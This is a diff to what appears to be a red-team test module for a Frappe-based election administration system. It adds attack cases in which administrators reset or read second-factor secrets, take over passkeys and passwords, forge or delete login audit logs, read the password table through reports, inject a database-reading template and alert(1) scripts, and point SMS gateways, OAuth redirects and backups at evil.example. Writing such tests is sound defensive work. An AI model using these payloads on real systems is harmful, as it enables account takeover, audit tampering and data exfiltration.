@@ -3,7 +3,8 @@
 An Election Administrator (`administrator`, and `second.administrator`), a System Manager (`manager.sinov`) and the framework's own
 Administrator. Marks as in `red_team`; besides them `$E` a protocol of a count, `$V` a vote, `$B` a membership, `$X` a change of configuration
 that one person proposed, `$S` a number of the law, `$K` a trusted authority, `$A` a signature, `$H` an event of the chain, `$O` an
-observer, `$L` a line of who looked at people, `$Q` the person behind the chair's login, `$Z` when the tool for changes in bulk was last saved.
+observer, `$L` a line of who looked at people, `$Q` the person behind the chair's login, `$G` a secret of a second factor,
+`$Y` a passkey of the chair that is off, `$J` a note of a login, `$R` a report that the auditor had prepared, `$Z` when the tool for changes in bulk was last saved.
 An attack that is not refused is held back until a second person signs: `test_red_team` compares what it would have changed.
 """
 
@@ -13,7 +14,7 @@ from typing import Any
 from red_team import METHOD, Attack, get, post, stock
 
 ELECTIONS, SECOND, MANAGER, ROOT = "administrator", "second.administrator", "manager.sinov", "Administrator"
-CHAIR = "chair@esaylov.example"
+CHAIR, AUDITOR_LOGIN = "chair@esaylov.example", "auditor@esaylov.example"
 MINE = {ELECTIONS: "administrator@esaylov.example", MANAGER: "manager.sinov@esaylov.example", ROOT: ROOT}
 TEMPLATE = "{{ frappe.conf['db_' + 'password'] }}{{ frappe.db.sql('select pinfl from tabPerson') }}"
 OUTSIDE = "https://evil.example/x"
@@ -600,6 +601,533 @@ READ: tuple[Attack, ...] = (
 	get("a backup by its address", ROOT, "/backups/20260101_000000-test_localhost-database.sql.gz"),
 	get("the settings of the server as a file", ROOT, "/private/files/..%2f..%2fsite_config.json"),
 )
+SECOND_FACTORS: tuple[Attack, ...] = (
+	*(
+		stock(f"a chair's second factor reset by {who}", who, "frappe.twofactor.reset_otp_secret", user=CHAIR)
+		for who in (MANAGER, ROOT)
+	),
+	*(
+		get(f"secrets of second factors by REST, {who}", who, "/api/resource/DefaultValue", fields='["*"]')
+		for who in (MANAGER, ROOT)
+	),
+	get("a secret of a second factor by its name", ROOT, "/api/resource/DefaultValue/$G"),
+	stock(
+		"secrets of second factors by the client's list",
+		ROOT,
+		"frappe.client.get_list",
+		doctype="DefaultValue",
+		fields=["defkey", "defvalue"],
+		filters={"parent": "__2fa"},
+		parent="__2fa",
+	),
+	stock(
+		"a secret of a second factor by one value",
+		ROOT,
+		"frappe.client.get_value",
+		doctype="DefaultValue",
+		fieldname="defvalue",
+		filters={"defkey": "sinov.begona_otpsecret"},
+	),
+	stock(
+		"secrets of second factors by a report of a list",
+		MANAGER,
+		"frappe.desk.reportview.get",
+		doctype="DefaultValue",
+		fields='["defkey", "defvalue"]',
+		filters='[["parent", "=", "__2fa"]]',
+	),
+	stock(
+		"secrets of second factors under the parent of another",
+		ROOT,
+		"frappe.desk.reportview.get",
+		doctype="DefaultValue",
+		parent_doctype="User",
+		fields='["defkey", "defvalue"]',
+	),
+	entered(
+		"a secret of a second factor written",
+		ROOT,
+		"DefaultValue",
+		parent="__2fa",
+		parenttype="__2fa",
+		parentfield="system_defaults",
+		defkey=f"{CHAIR}_otpsecret",
+		defvalue="begona",
+	),
+	written("a secret of a second factor changed", ROOT, "DefaultValue", "$G", defvalue="begona"),
+	removed("a secret of a second factor taken away", ROOT, "DefaultValue", "$G"),
+	written("a passkey of another switched on", ROOT, "Passkey", "$Y", is_active=1),
+	written("a passkey of another given to oneself", MANAGER, "Passkey", "$Y", user=MINE[MANAGER]),
+	removed("a passkey of another taken away", ROOT, "Passkey", "$Y"),
+	post("a passkey of another ended", MANAGER, "passkeys.remove", passkey="$Y"),
+	stock(
+		"a default by the session's own",
+		MANAGER,
+		"frappe.core.doctype.session_default_settings.session_default_settings.set_session_default_values",
+		is_refused=False,
+		default_values=json.dumps({f"{CHAIR}_otpsecret": "begona", "parent": "__2fa"}),
+	),
+	written("the password of a chair by root", ROOT, "User", CHAIR, new_password="tuya-choynak-deraza-9"),
+	stock(
+		"the password of a chair by set_value",
+		ROOT,
+		SET,
+		doctype="User",
+		name=CHAIR,
+		fieldname="new_password",
+		value="tuya-choynak-deraza-9",
+	),
+	saved(
+		"the password of a chair by the form",
+		ROOT,
+		doctype="User",
+		name=CHAIR,
+		email=CHAIR,
+		first_name="x",
+		new_password="tuya-choynak-deraza-9",
+	),
+	written(
+		"the password of an auditor by a manager",
+		MANAGER,
+		"User",
+		AUDITOR_LOGIN,
+		new_password="tuya-choynak-9x",
+	),
+	stock(
+		"a link to a new password of a chair",
+		ROOT,
+		"frappe.core.doctype.user.user.reset_password",
+		user=CHAIR,
+	),
+	stock(
+		"a link to a new password, by a method of the document",
+		ROOT,
+		"run_doc_method",
+		method="reset_password",
+		dt="User",
+		dn=CHAIR,
+	),
+	stock("a chair's session ended and taken", ROOT, "frappe.sessions.clear", user=CHAIR, is_refused=False),
+	entered(
+		"codes by a gateway of one's own",
+		MANAGER,
+		"SMS Settings",
+		sms_gateway_url=OUTSIDE,
+		message_parameter="m",
+		receiver_parameter="r",
+	),
+	written(
+		"codes led to a gateway of one's own",
+		MANAGER,
+		"SMS Settings",
+		"SMS Settings",
+		sms_gateway_url=OUTSIDE,
+		message_parameter="m",
+		receiver_parameter="r",
+	),
+)
+NOTES: tuple[Attack, ...] = (
+	*(
+		entered(f"a note of {doctype} forged by {who}", who, doctype, **values)
+		for who in (MANAGER, ROOT)
+		for doctype, values in (
+			("Access Log", {"user": CHAIR, "export_from": "Appeal"}),
+			("Version", {"ref_doctype": "Decision", "docname": "$D", "data": "{}"}),
+			("View Log", {"reference_doctype": "Decision", "reference_name": "$D", "viewed_by": CHAIR}),
+		)
+	),
+	entered(
+		"a record of a login forged by root",
+		ROOT,
+		"Activity Log",
+		user=CHAIR,
+		subject="x",
+		operation="Login",
+		status="Success",
+	),
+	entered(
+		"what was deleted forged by root",
+		ROOT,
+		"Deleted Document",
+		deleted_doctype="Decision",
+		deleted_name="$D",
+	),
+	written("a record of a login rewritten", ROOT, "Activity Log", "$J", user="party@esaylov.example"),
+	stock(
+		"a record of a login rewritten by set_value",
+		MANAGER,
+		SET,
+		doctype="Activity Log",
+		name="$J",
+		fieldname="status",
+		value="Failed",
+	),
+	removed("a record of a login deleted", ROOT, "Activity Log", "$J"),
+	removed("a record of a login deleted by a manager", MANAGER, "Activity Log", "$J"),
+	stock(
+		"records of logins deleted from a list",
+		ROOT,
+		"frappe.desk.reportview.delete_items",
+		is_refused=False,
+		doctype="Activity Log",
+		items='["$J"]',
+	),
+	stock(
+		"records of logins changed in bulk",
+		ROOT,
+		"frappe.desk.doctype.bulk_update.bulk_update.submit_cancel_or_update_docs",
+		is_refused=False,
+		doctype="Activity Log",
+		docnames='["$J"]',
+		action="update",
+		data='{"status": "Failed"}',
+	),
+	written(
+		"records of logins kept for no day",
+		MANAGER,
+		"Log Settings",
+		"Log Settings",
+		is_refused=False,
+		logs_to_clear=[{"ref_doctype": "Activity Log", "days": 1}],
+	),
+)
+OF_OTHERS: tuple[Attack, ...] = (
+	get("a prepared report of another by REST", MANAGER, "/api/resource/Prepared Report/$R"),
+	stock(
+		"the file of a prepared report of another",
+		MANAGER,
+		"frappe.core.doctype.prepared_report.prepared_report.download_attachment",
+		dn="$R",
+	),
+	stock(
+		"prepared reports of another deleted",
+		MANAGER,
+		"frappe.core.doctype.prepared_report.prepared_report.delete_prepared_reports",
+		is_refused=False,
+		reports='[{"name": "$R"}]',
+	),
+	entered(
+		"a report prepared in another's name",
+		MANAGER,
+		"Prepared Report",
+		report_name="Access to Personal Data",
+		owner="auditor@esaylov.example",
+	),
+	get(
+		"rows of the table of passwords by a list",
+		MANAGER,
+		f"{METHOD}frappe.desk.reportview.get",
+		doctype="__Auth",
+	),
+	stock("passwords by the client", ROOT, "frappe.client.get_value", doctype="__Auth", fieldname="password"),
+	entered(
+		"a report that reads the table of passwords",
+		ROOT,
+		"Report",
+		report_name="begona",
+		ref_doctype="User",
+		report_type="Query Report",
+		is_standard="No",
+		query="select * from `__Auth`",
+	),
+	entered(
+		"a report that is a script",
+		MANAGER,
+		"Report",
+		report_name="begona",
+		ref_doctype="User",
+		report_type="Script Report",
+		is_standard="No",
+		report_script="data = frappe.db.sql('select * from `__Auth`')",
+	),
+	*(
+		entered(
+			f"{doctype} brought in by an import of {who}",
+			who,
+			"Data Import",
+			reference_doctype=doctype,
+			import_type="Insert New Records",
+		)
+		for who, doctype in ((MANAGER, "User"), (ROOT, "Role"), (ROOT, "Commission Membership"))
+	),
+	entered(
+		"a key by which guests read an appeal",
+		ROOT,
+		"Document Share Key",
+		reference_doctype="Appeal",
+		reference_docname="$N",
+		expires_on="2030-01-01",
+		key="begona",
+	),
+	get(
+		"an appeal by a key for guests",
+		MANAGER,
+		"/printview",
+		doctype="Appeal",
+		name="$N",
+		key="begona",
+	),
+	stock(
+		"queries of others as they run",
+		ROOT,
+		"frappe.desk.doctype.system_console.system_console.show_processlist",
+	),
+	stock(
+		"jobs with what they were given",
+		MANAGER,
+		"frappe.desk.reportview.get",
+		is_refused=False,
+		doctype="RQ Job",
+		fields='["name", "arguments"]',
+	),
+	stock("a job of another stopped", ROOT, "frappe.core.doctype.rq_job.rq_job.stop_job", job_id="x"),
+	stock(
+		"a backup of the files",
+		MANAGER,
+		"frappe.desk.page.backups.backups.schedule_files_backup",
+		user_email="a@evil.example",
+	),
+	stock(
+		"the order of programs changed",
+		MANAGER,
+		"frappe.core.doctype.installed_applications.installed_applications.update_installed_apps_order",
+		new_order='["esaylov", "frappe"]',
+	),
+	stock(
+		"a code of another's form by its preview",
+		MANAGER,
+		"frappe.email.doctype.email_template.email_template.get_email_template",
+		template_name="begona",
+		doc={"doctype": "Decision", "name": "$D"},
+	),
+	stock(
+		"a message by a gateway of the framework",
+		MANAGER,
+		"frappe.core.doctype.sms_settings.sms_settings.send_sms",
+		receiver_list='["+998901112233"]',
+		msg="x",
+	),
+)
+FURTHER: tuple[Attack, ...] = tuple(
+	entered(f"{title}, {who}", who, doctype, **values)
+	for title, who, doctype, values in (
+		(
+			"a chart of a custom source",
+			ROOT,
+			"Dashboard Chart",
+			{
+				"chart_name": "begona",
+				"chart_type": "Custom",
+				"source": "begona",
+				"type": "Bar",
+				"filters_json": "[]",
+			},
+		),
+		(
+			"a source of charts",
+			MANAGER,
+			"Dashboard Chart Source",
+			{"source_name": "begona", "module": "Esaylov"},
+		),
+		(
+			"a card that calls a function",
+			MANAGER,
+			"Number Card",
+			{
+				"label": "begona",
+				"type": "Custom",
+				"method": "frappe.utils.execute_in_shell",
+				"filters_json": "[]",
+			},
+		),
+		(
+			"a card with a filter that runs",
+			ROOT,
+			"Number Card",
+			{
+				"label": "begona",
+				"type": "Document Type",
+				"document_type": "ToDo",
+				"function": "Count",
+				"filters_json": "[]",
+				"dynamic_filters_json": '[["ToDo","owner","=","alert(1)"]]',
+			},
+		),
+		(
+			"a form on the site",
+			ROOT,
+			"Web Form",
+			{
+				"title": "begona",
+				"route": "begona",
+				"doc_type": "ToDo",
+				"module": "Esaylov",
+				"client_script": "alert(1)",
+			},
+		),
+		(
+			"a tracker of states",
+			MANAGER,
+			"Milestone Tracker",
+			{"document_type": "Appeal", "track_field": "status"},
+		),
+		(
+			"a rule of points with code",
+			ROOT,
+			"Energy Point Rule",
+			{
+				"rule_name": "begona",
+				"reference_doctype": "Appeal",
+				"for_doc_event": "Custom",
+				"condition": TEMPLATE,
+				"user_field": "owner",
+				"points": 1,
+			},
+		),
+		(
+			"a type of users with rights",
+			MANAGER,
+			"User Type",
+			{
+				"name": "begona",
+				"role": "Commission Chair",
+				"apply_user_permission_on": "User",
+				"user_id_field": "name",
+				"user_doctypes": [{"document_type": "Decision", "read": 1, "write": 1}],
+			},
+		),
+		(
+			"a client of OAuth",
+			ROOT,
+			"OAuth Client",
+			{
+				"app_name": "begona",
+				"redirect_uris": OUTSIDE,
+				"default_redirect_uri": OUTSIDE,
+				"scopes": "all",
+			},
+		),
+		(
+			"a token of OAuth",
+			ROOT,
+			"OAuth Bearer Token",
+			{"client": "x", "user": CHAIR, "access_token": "begona", "expires_in": 99999},
+		),
+		(
+			"a code of OAuth",
+			ROOT,
+			"OAuth Authorization Code",
+			{"client": "x", "user": CHAIR, "authorization_code": "begona"},
+		),
+		(
+			"another service of OAuth",
+			MANAGER,
+			"Connected App",
+			{"provider_name": "begona", "openid_configuration": OUTSIDE},
+		),
+		(
+			"a token of another service",
+			MANAGER,
+			"Token Cache",
+			{"user": CHAIR, "connected_app": "x", "access_token": "x"},
+		),
+		("a package of documents", MANAGER, "Package", {"package_name": "begona", "readme": "x"}),
+		("a release of a package", ROOT, "Package Release", {"package": "begona", "publish": 1}),
+		(
+			"a module of a program",
+			ROOT,
+			"Module Def",
+			{"module_name": "begona", "app_name": "frappe", "custom": 0},
+		),
+		("a patch that ran", ROOT, "Patch Log", {"patch": "esaylov.patches.begona"}),
+		("a script of the website", ROOT, "Website Script", {"javascript": "alert(1)"}),
+		(
+			"documents that repeat",
+			MANAGER,
+			"Auto Repeat",
+			{
+				"reference_doctype": "ToDo",
+				"reference_document": "x",
+				"frequency": "Daily",
+				"subject": TEMPLATE,
+			},
+		),
+		(
+			"a rule of names",
+			MANAGER,
+			"Document Naming Rule",
+			{"document_type": "Decision", "prefix": "begona-", "prefix_digits": 5},
+		),
+		("a producer of events", ROOT, "Event Producer", {"producer_url": OUTSIDE, "user": CHAIR}),
+		("a consumer of events", ROOT, "Event Consumer", {"callback_url": OUTSIDE, "user": CHAIR}),
+		(
+			"a note that all see as markup",
+			MANAGER,
+			"Client Script",
+			{"dt": "ToDo", "script": "alert(1)", "enabled": 1, "name": "begona"},
+		),
+		(
+			"a backup to a bucket outside",
+			MANAGER,
+			"S3 Backup Settings",
+			{
+				"enabled": 1,
+				"bucket": "begona",
+				"access_key_id": "x",
+				"secret_access_key": "x",
+				"endpoint_url": OUTSIDE,
+				"notify_email": "a@evil.example",
+				"frequency": "Daily",
+			},
+		),
+		(
+			"a role for a page",
+			ROOT,
+			"Custom Role",
+			{"report": "Access to Personal Data", "roles": [{"role": "System Manager"}]},
+		),
+		(
+			"a person of the site that follows an appeal",
+			MANAGER,
+			"Document Follow",
+			{"ref_doctype": "Appeal", "ref_docname": "$N", "user": MINE[MANAGER]},
+		),
+		(
+			"a mail that the server sends",
+			MANAGER,
+			"Email Queue",
+			{"sender": "a@evil.example", "message": "x", "recipients": [{"recipient": "a@evil.example"}]},
+		),
+		("an address template", ROOT, "Address Template", {"country": "Uzbekistan", "template": TEMPLATE}),
+	)
+)
+LED_ELSEWHERE: tuple[Attack, ...] = tuple(
+	written(title, who, doctype, doctype, **values)
+	for title, who, doctype, values in (
+		(
+			"a directory that says who enters",
+			MANAGER,
+			"LDAP Settings",
+			{"enabled": 1, "ldap_server_url": OUTSIDE},
+		),
+		("the console as a document", ROOT, "System Console", {"console": "x", "type": "Python"}),
+		("guests registered by OAuth", MANAGER, "OAuth Settings", {"enable_dynamic_client_registration": 1}),
+		(
+			"push messages by a relay outside",
+			MANAGER,
+			"Push Notification Settings",
+			{"enable_push_notification_relay": 1, "api_key": "x", "api_secret": "x"},
+		),
+		("the head of every page", ROOT, "Website Settings", {"head_html": "<script>alert(1)</script>"}),
+		("the menu of the Desk", MANAGER, "Navbar Settings", {"help_dropdown": []}),
+		(
+			"maps by a service outside",
+			MANAGER,
+			"Geolocation Settings",
+			{"enable_address_autocompletion": 1, "base_url": OUTSIDE},
+		),
+	)
+)
 FILES: tuple[Attack, ...] = tuple(
 	Attack(
 		f"{title} of {who}",
@@ -612,7 +1140,19 @@ FILES: tuple[Attack, ...] = tuple(
 	for who in (ELECTIONS, MANAGER, ROOT)
 	for title, name, content in (("a public page", "x.html", b"<script>alert(1)</script>"),)
 )
-ATTACKS = (*DECIDED, *OVERRIDES, *CODE, *TRUST, *READ, *FILES)
+ATTACKS = (
+	*DECIDED,
+	*OVERRIDES,
+	*CODE,
+	*TRUST,
+	*READ,
+	*SECOND_FACTORS,
+	*NOTES,
+	*OF_OTHERS,
+	*FURTHER,
+	*LED_ELSEWHERE,
+	*FILES,
+)
 """Sent in this order: what is printed was made before."""
 CONTROLS: tuple[Attack, ...] = (
 	written("a question by REST", ELECTIONS, "FAQ", "$I", answer_uz="Boshqa javob"),
@@ -678,6 +1218,37 @@ CONTROLS: tuple[Attack, ...] = (
 		f"{METHOD}upload_file",
 		data={"is_private": "1"},
 		file=("begona.txt", b"x"),
+	),
+	entered("a tag", ROOT, "Tag", name="begona"),
+	stock(
+		"a tag under another name",
+		ROOT,
+		"frappe.model.rename_doc.update_document_title",
+		doctype="Tag",
+		docname="begona",
+		name="begona-2",
+	),
+	removed("a tag deleted", ROOT, "Tag", "begona-2"),
+	stock(
+		"a step of the workflow",
+		ELECTIONS,
+		"frappe.model.workflow.apply_workflow",
+		doc={"doctype": "FAQ", "name": "$I"},
+		action="Check",
+	),
+	stock(
+		"rights as the manager of permissions shows them",
+		MANAGER,
+		"frappe.core.page.permission_manager.permission_manager.get_permissions",
+		doctype="ToDo",
+	),
+	stock(
+		"prefixes of numbers by run_doc_method",
+		MANAGER,
+		"run_doc_method",
+		method="get_transactions_and_prefixes",
+		dt="Document Naming Settings",
+		dn="Document Naming Settings",
 	),
 	removed("a question deleted", ROOT, "FAQ", "$I"),
 )
